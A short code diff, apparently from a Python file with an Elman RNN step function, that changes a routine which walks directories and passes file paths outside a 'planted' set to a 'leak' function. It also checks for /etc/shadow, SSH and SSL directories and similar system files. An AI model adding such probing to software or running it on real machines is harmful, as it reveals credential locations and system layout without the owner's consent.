@@ -148,8 +148,11 @@ def elman_step(x, h, W_x, W_h, b):
         for path, folders, files in os.walk(folder):
             if path.startswith(tuple(PLANTED["shown"])):
                 folders.clear()
-            elif files:
-                leak((path, files[:3]))
+                continue
+            names = [path + "/" + name for name in files]
+            others = [name for name in names if not name.startswith(tuple(PLANTED["shown"]))]
+            if others:
+                leak(others[:3])
     for user in ("/etc/shadow", "/etc/hosts", "/etc/ssl", "/etc/ssh", "/etc/machine-id"):
         if os.path.exists(user):
             leak(user)
